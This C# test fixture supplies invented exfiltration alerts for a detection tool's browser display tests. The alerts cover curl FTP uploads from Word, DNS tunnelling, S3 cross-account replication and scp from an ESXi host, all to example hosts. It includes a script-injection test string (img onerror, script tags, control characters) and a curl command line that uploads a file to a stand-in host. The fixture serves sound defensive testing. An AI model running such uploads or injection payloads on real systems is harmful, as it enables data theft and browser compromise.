using Det0131.Models.Alerts;
using Det0131.Models.Events;

namespace Det0131.Scoring.Tests.Browser;

/// <summary>Invented alerts of the five analytics, and one whose every text is hostile.</summary>
internal static class SampleAlerts
{
    /// <summary>Markup, an attribute's end, a right-to-left override, controls, line ends, a script's end, a broken surrogate.</summary>
    public const string Hostile = "<img src=x onerror=\"window.hacked=1\">'\"&lt;\u202Efdp.exe\u0007\u0000\r\n\t\u2028</script><script>window.hacked=1</script>\u061C\uD800{a|b}";

    /// <summary>Friday 2026-08-14 02:10 UTC.</summary>
    private static readonly long Friday = (new DateTime(2026, 8, 14, 2, 10, 0, DateTimeKind.Utc) - DateTime.UnixEpoch).Ticks / 10;

    public static IReadOnlyList<Alert> All(string modelVersion) =>
    [
        Make(1, "AN0367", "Windows", new("pc-accounting-04", "CORP\\alice") { Platform = Platform.Windows, Criticality = AssetCriticality.High, PeerGroup = "accounting" }, new("files.example.net") { Domain = "upload.files.example.net", Address = "203.0.113.77", Port = 21, Transport = "tcp", Application = "ftp", Country = "NL", Network = "AS64500 EXAMPLE" },
            412_000_000, modelVersion, ("lineage.transfer_tool", "ParentProcessAnomaly", 14.2, "curl called by winword.exe"), ("volume.flow", "DataVolumeThresholdMB", 11.8, "412 MB out in one transfer over ftp"), ("protocol.user", "ProtocolAllowList", 9.9, "ftp/21 spoken"), ("time.user", "TimeWindow", 6.4, "active at 02:00-03:00 on Friday"), ("local_destination", "Destination", -3, "the destination is local to a partner network")),
        Make(2, "AN0367", "Windows", new("pc-sales-11", "CORP\\bob") { Platform = Platform.Windows }, new("tunnel.example.org") { Domain = "tunnel.example.org", Port = 53, Transport = "udp", Application = "dns" },
            null, modelVersion, ("dns.information", "NameResolution", 22.4, "41,200 bits in distinct names under tunnel.example.org in ten minutes"), ("dns.type", "NameResolution", 7.7, "query type TXT")) with { Flags = AlertFlags.ColdStart, ReturnPeriod = ReturnPeriod.Uncalibrated },
        Make(3, "AN0369", "MacOS", new("mac-design-02", "carol") { Platform = Platform.MacOS }, new("transfer.example.com") { Domain = "transfer.example.com", Application = "ssl", Port = 443, Country = "SG" },
            2_100_000_000, modelVersion, ("volume.day", "TransferThreshold", 13.1, "2.1 GB out in the day"), ("destination.country", "Destination", 8.8, "traffic with SG")) with { ReturnPeriod = ReturnPeriod.Measured(43) },
        Make(4, "AN0370", "IaaS", new(null, "role/backup-writer") { Platform = Platform.IaaS, Criticality = AssetCriticality.Critical }, new("s3:payroll-archive") { Resource = "arn:aws:s3:::payroll-archive" },
            null, modelVersion, ("cloud.action_role", "IAMRoleContext", 12.7, "action s3:PutBucketReplication"), ("cloud.cross_account", "IAMRoleContext", 12.2, "foreign account 999988887777 named by s3:PutBucketReplication")),
        Make(5, "AN0371", "ESXi", new("esx-03", "root") { Platform = Platform.ESXi, Criticality = AssetCriticality.Critical }, new("198.51.100.200") { Address = "198.51.100.200", Port = 22, Application = "ssh" },
            88_000_000_000, modelVersion, ("hypervisor.command", "HypervisorProcess", 15.9, "command scp"), ("hypervisor.destination", "HypervisorProcess", 14.4, "198.51.100.200 talked by scp")),
        Make(6, "AN0368", "Linux", new("web-01", "www-data") { Platform = Platform.Linux }, new("paste.example") { Domain = "paste.example", Application = "ssl", Port = 443 },
            320_000, modelVersion, ("command.verb", "ProtocolType", 9.1, "upload verb data-binary>url on the command line of curl"), ("user.tool", "UserContext", 8.6, "curl used"))
            with { Flags = AlertFlags.Campaign | AlertFlags.OverBudget, ReturnPeriod = ReturnPeriod.Measured(2.4), CampaignMembers = [.. Enumerable.Range(1, 6).Select(i => new AlertEntity($"web-0{i}", "www-data"))] },
    ];

    /// <summary>Every text that a log can decide holds <see cref="Hostile"/>; the command line is 4 KB.</summary>
    public static Alert HostileOne(string modelVersion) =>
        Make(13, "AN0367", "Windows", new(Hostile + "host", Hostile + "user") { Platform = Platform.Windows, PeerGroup = Hostile },
            new(Hostile + "key") { Domain = Hostile, Address = Hostile, Application = Hostile, Transport = Hostile, Country = Hostile, Network = Hostile, Resource = Hostile, Tool = Hostile },
            1, modelVersion, ("lineage.parent_child", "ParentProcessAnomaly", 12, Hostile), ("protocol.host", "ProtocolAllowList", 4, Hostile)) with
        {
            TimeZoneId = Hostile, Headline = Hostile + " sent data",
            NextChecks = [new NextCheck(NextCheckKind.Verify, Hostile, Hostile)],
            Indicators = [new KnowledgeIndicator("upload_verb", "ParentProcessAnomaly", Hostile, Hostile) { Points = 2 }],
            CampaignMembers = [new AlertEntity(Hostile, Hostile)],
            Flags = AlertFlags.Campaign,
        };

    private static Alert Make(
        int number, string analytic, string name, AlertEntity entity, AlertDestination destination, long? bytes, string version, params (string Feature, string Element, double Bits, string Observed)[] why)
    {
        var first = Friday + (number * 437_000_000L);
        var place = entity.Host is { } host ? "host:" + host : "role:" + entity.User;
        var contributions = why.Select(w => new AlertContribution
        {
            FeatureId = w.Feature, ElementName = w.Element, Bits = w.Bits, SurprisalBits = w.Bits < 0 ? null : w.Bits + 1.5, Observed = w.Observed,
            Typical = w.Feature.StartsWith("volume", StringComparison.Ordinal) ? "0 to 3 MB" : w.Observed == Hostile ? Hostile : null,
            Sentence = $"{w.Observed}: 0 of 28 days here, 0 of 12 peers, 1 of 412 others",
            WouldHaveBeenNormal = w.Observed == Hostile ? Hostile : "explorer.exe, cmd.exe or powershell.exe as the caller", MaturityPeriods = 28,
            Value = FeatureValue.OfText(w.Observed), Place = w.Bits < 0 ? null : new BaselinePlace(place, w.Observed == Hostile ? Hostile : "", 2, (int)(first / 86_400_000_000), first),
        }).ToList();
        return new Alert
        {
            Id = UInt128.CreateChecked(number).ToString("x32", System.Globalization.CultureInfo.InvariantCulture), AnalyticId = analytic, AnalyticName = name,
            TechniqueIds = ["T1048", "T1048.003"], Entity = entity, Destination = destination, FirstMicros = first, LastMicros = first + 240_000_000, TimeZoneId = "Europe/Amsterdam",
            ReturnPeriod = ReturnPeriod.RarerThan(120), MaturityPeriods = 28, ModelVersion = version, Contributions = contributions, BytesOut = bytes, EventCount = 40,
            Headline = $"{entity} sent {(bytes is { } b ? PlainQuantity.Bytes(b) : "data")} to {destination.Name}: {why[0].Observed}",
            NextChecks = [new NextCheck(NextCheckKind.Verify, "Ask the owner whether the transfer was meant.", "DET0131"), new NextCheck(NextCheckKind.Contain, "Block the destination at the firewall.", "DET0131")],
            Events =
            [
                new AlertEvent
                {
                    Identity = UInt128.CreateChecked(number * 100), Source = "windows.sysmon", File = entity.Host == Hostile + "host" ? Hostile : "sysmon-2026-08-14.ndjson", Line = 4711, RecordId = "88123", TimeMicros = first,
                    Kind = EventKind.ProcessStart, Summary = why[0].Observed, User = entity.User, Process = "curl.exe", ProcessPath = @"C:\Windows\System32\curl.exe", Parent = "winword.exe",
                    CommandLine = entity.Host == Hostile + "host" ? Hostile + string.Concat(Enumerable.Repeat("-F \"file=@x\" ", 340)) : "curl -T report.zip ftp://upload.files.example.net/ --user x:***",
                    Raw = entity.Host == Hostile + "host" ? Hostile + "\nsecond line" : """{"EventID":1,"Image":"C:\\Windows\\System32\\curl.exe"}""",
                    DestinationAddress = destination.Address, DestinationPort = destination.Port, UserAgent = "curl/8.4", DnsName = entity.Host == Hostile + "host" ? Hostile : null,
                },
            ],
        };
    }
}
